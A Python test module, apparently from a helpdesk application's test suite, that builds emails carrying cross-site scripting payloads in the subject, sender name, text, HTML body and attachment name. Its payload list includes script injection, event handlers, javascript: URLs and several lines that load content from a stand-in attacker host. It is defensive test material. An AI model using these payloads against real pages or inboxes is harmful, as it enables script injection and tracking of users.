"""Mails that try to run a script or to call home: each trick at each place of a mail that a page shows."""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from email.message import EmailMessage

from tests.use_cases.desk import ADDRESSES, SUPPORT, TECHNICAL

HOME = "http://pirate.example"
TRICKS = (
    "<script>ran()</script>",
    f"<script src={HOME}/x.js></script>",
    '"><script>ran()</script>',
    "</title><script>ran()</script>",
    "</textarea><script>ran()</script>",
    "<img src=x onerror=ran()>",
    f"<img src={HOME}/pixel.gif>",
    '" onmouseover="ran()" autofocus onfocus="ran()',
    "' onload='ran()",
    "<svg onload=ran()>",
    "<svg><script>ran()</script></svg>",
    f'<iframe src="{HOME}/"></iframe>',
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    f'<form action="{HOME}/"><button autofocus>ok</button></form>',
    '<a href="javascript:ran()">lien</a>',
    '<a href="data:text/html,<script>ran()</script>">lien</a>',
    f'<link rel="stylesheet" href="{HOME}/x.css">',
    f"<style>@import '{HOME}/x.css'; body{{background:url({HOME}/b.gif)}}</style>",
    f'<meta http-equiv="refresh" content="0;url={HOME}/">',
    f'<base href="{HOME}/">',
    f'<object data="{HOME}/x.swf"></object>',
    "<details open ontoggle=ran()>",
    "<math><mtext></p><img src=x onerror=ran()></math>",
    "<!--><img src=x onerror=ran()>-->",
    '<noscript><p title="</noscript><img src=x onerror=ran()>">',
    "{{ ''.__class__ }}{% raw %}<script>ran()</script>",
    "<p hx-get=/deconnexion hx-trigger=load hx-on::load=ran()>x</p>",
    "\u202e<script>ran()</script>\u202c",
)
PLACES = ("subject", "name", "text", "html", "file")


def xss_mails() -> Iterator[tuple[str, str, str]]:
    """(place, trick, how it is written) without end: every trick at every place, as it is, in capitals, coded, twice."""
    shapes = (str, str.upper, lambda trick: trick.replace("<", "&lt;") + trick, lambda trick: trick + trick)
    for shape in itertools.cycle(shapes):
        for trick, place in itertools.product(TRICKS, PLACES):
            yield place, trick, shape(trick)


def xss_mail(number: int, place: str, trick: str, reference: str) -> EmailMessage:
    """A partner's mail with the trick at that place; an answer to `reference` where there is one."""
    message = EmailMessage()
    name = f"Support {trick}" if place == "name" else SUPPORT[0]
    message["From"] = f'"{name.replace(chr(92), "").replace(chr(34), chr(92) + chr(34))}" <{SUPPORT[1]}>'
    message["To"] = ADDRESSES["gsi"]
    message["Subject"] = (f"Re: [{reference}] " if reference else "Flux ") + (trick if place == "subject" else "DSG")
    message["Message-ID"] = f"<xss-{number}@cd-val-ambre.example>"
    message.set_content(f"{TECHNICAL}\n{number} {trick if place == 'text' else ''}")
    if place == "html":
        message.clear_content()
        message.set_content(f"<html><body><p>{TECHNICAL} {number}</p>{trick}</body></html>", subtype="html")
    if place == "file":
        message.add_attachment(trick.encode(), maintype="text", subtype="html", filename=f"{trick}.html")
    return message
